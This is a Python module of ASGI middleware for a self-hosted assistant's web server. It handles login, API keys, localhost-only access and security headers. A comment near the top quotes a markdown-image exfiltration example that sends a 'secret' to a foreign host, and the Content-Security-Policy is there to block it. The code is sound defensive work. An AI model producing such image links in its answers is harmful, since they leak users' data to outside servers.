"""Before both pages and the API: who may come in, how much one may ask, and no foreign picture is fetched."""

import base64
import binascii
import hmac
import secrets
from collections.abc import Mapping
from dataclasses import dataclass, field
from urllib.parse import urlsplit

from starlette.datastructures import Headers, MutableHeaders
from starlette.middleware import Middleware
from starlette.requests import cookie_parser
from starlette.responses import PlainTextResponse, Response
from starlette.types import ASGIApp, Message, Receive, Scope, Send

from assistant.web.line import MOST_WAITING, is_loopback

# A model's answer may hold ![](http://elsewhere/?q=secret): the browser must not ask for it.
POLICY = "img-src 'self' data: blob:; object-src 'none'; base-uri 'self'"
HEADERS = {
    "Content-Security-Policy": POLICY,
    "X-Content-Type-Options": "nosniff",
    "Referrer-Policy": "same-origin",
}
COOKIE = "assistant-login"
API = "/v1/"  # asks for a key or the login itself
IS_UP = ("/health", "/_stcore/health")  # say only that, to everyone


@dataclass(frozen=True)
class Access:
    """Who may come in and how much one may ask."""

    login: str = field(default="", repr=False)
    """user:password; empty: everyone who reaches the page."""
    api_key: str = field(default="", repr=False)
    """Bearer key of the API; empty: as the page."""
    per_minute: int = 30
    """Questions of one client that is not on this machine; 0: no limit."""
    most_waiting: int = MOST_WAITING
    proxies: tuple[str, ...] = ()
    """Addresses and networks of proxies that are believed whom they speak for."""


def access_from(environment: Mapping[str, str]) -> Access:
    """ASSISTANT_LOGIN, _API_KEY, _PER_MINUTE, _MOST_WAITING and FORWARDED_ALLOW_IPS, which is uvicorn's.

    Raises ValueError for what they cannot mean.
    """
    login = environment.get("ASSISTANT_LOGIN", "")
    user, _, password = login.partition(":")
    if login and not (user and password):
        raise ValueError("ASSISTANT_LOGIN must be user:password, both not empty")
    return Access(
        login,
        environment.get("ASSISTANT_API_KEY", "").strip(),
        _count(environment, "ASSISTANT_PER_MINUTE", Access.per_minute),
        _count(environment, "ASSISTANT_MOST_WAITING", MOST_WAITING),
        tuple(environment.get("FORWARDED_ALLOW_IPS", "").replace(",", " ").split()),
    )


def _count(environment: Mapping[str, str], name: str, default: int) -> int:
    text = environment.get(name, "").strip()
    if text and not (text.isascii() and text.isdigit()):
        raise ValueError(f"{name}={text} must be a whole number, 0 or more")
    return int(text) if text else default


def notes(access: Access, address: str) -> list[str]:
    """What whoever starts the server should know about its doors."""
    said = []
    if not (is_loopback(address) or access.login):
        said.append(
            f"the page listens on {address}: whoever reaches this machine can chat; "
            "ASSISTANT_LOGIN=user:password asks for a login"
        )
    if access.login and not access.api_key:
        said.append("/v1 asks for the login too (HTTP Basic); ASSISTANT_API_KEY=... lets OpenAI clients in")
    if access.api_key and not access.login:
        said.append("ASSISTANT_API_KEY guards /v1 alone; ASSISTANT_LOGIN=user:password guards the page")
    return said


def doors(access: Access, *, only_local: bool, login: str = "") -> list[Middleware]:
    """What stands before a page: who comes through a trusted proxy gets the own address, then the guard.

    Streamlit's server has read uvicorn's FORWARDED_ALLOW_IPS before a deploy file could set it.
    """
    from uvicorn.middleware.proxy_headers import ProxyHeadersMiddleware

    trusted = "*" if "*" in access.proxies else list(access.proxies)
    before = [Middleware(ProxyHeadersMiddleware, trusted_hosts=trusted)] if trusted else []
    return [*before, Middleware(Guard, only_local=only_local, login=login)]


@dataclass
class Guard:
    """ASGI middleware. With `only_local`, other machines and foreign Host names (DNS rebinding) get 403.

    With `login` the browser asks for it (HTTP Basic). A cookie then stands for it, because not every browser
    sends a login with a websocket; it ends with this process.
    """

    app: ASGIApp
    only_local: bool = True
    login: str = field(default="", repr=False)
    token: str = field(default_factory=secrets.token_urlsafe, repr=False)

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] == "lifespan":
            return await self.app(scope, receive, send)
        if self.only_local and not is_local(scope):
            sentence = "This page answers only its own machine; start it with a server address to open it."
            return await refuse(PlainTextResponse(sentence, 403), scope, receive, send)
        headers = Headers(scope=scope)
        path = scope["path"]
        is_asked = self.login and not path.startswith(API) and path not in IS_UP
        has_login = is_login(headers.get("authorization", ""), self.login)
        if is_asked and not has_login and not self._has_cookie(headers.get("cookie", "")):
            ask = {"WWW-Authenticate": 'Basic realm="assistant", charset="UTF-8"'}
            return await refuse(
                PlainTextResponse("This page asks for a login.", 401, ask), scope, receive, send
            )

        async def send_with_headers(message: Message) -> None:
            if message["type"] == "http.response.start":
                sent = MutableHeaders(scope=message)
                sent.update(HEADERS)
                if is_asked and has_login:
                    sent.append("Set-Cookie", f"{COOKIE}={self.token}; HttpOnly; SameSite=Strict; Path=/")
            await send(message)

        await self.app(scope, receive, send_with_headers)

    def _has_cookie(self, header: str) -> bool:
        return is_same(cookie_parser(header).get(COOKIE, ""), self.token)


async def refuse(response: Response, scope: Scope, receive: Receive, send: Send) -> None:
    if scope["type"] == "websocket":
        await send({"type": "websocket.close", "code": 1008})
        return
    await response(scope, receive, send)


def is_allowed(authorization: str, access: Access) -> bool:
    """For the API: its key or, where there is one, the login of the page."""
    if not access.api_key and not access.login:
        return True
    scheme, _, given = authorization.partition(" ")
    has_key = scheme.lower() == "bearer" and access.api_key and is_same(given.strip(), access.api_key)
    return bool(has_key) or is_login(authorization, access.login)


def is_login(authorization: str, login: str) -> bool:
    """An Authorization header of HTTP Basic that holds exactly `login`, which is not empty."""
    scheme, _, given = authorization.partition(" ")
    try:
        decoded = base64.b64decode(given.strip(), validate=True)
    except (binascii.Error, ValueError):
        return False
    return bool(login) and scheme.lower() == "basic" and hmac.compare_digest(decoded, login.encode())


def is_same(given: str, wanted: str) -> bool:
    """Compared in constant time."""
    return hmac.compare_digest(given.encode("utf-8", "replace"), wanted.encode())


def is_local(scope: Scope) -> bool:
    """The caller is on this machine and asked for it by a local name."""
    host = urlsplit("//" + Headers(scope=scope).get("host", "")).hostname or ""
    client = scope.get("client")
    return is_loopback(host) and (client is None or is_loopback(client[0]))
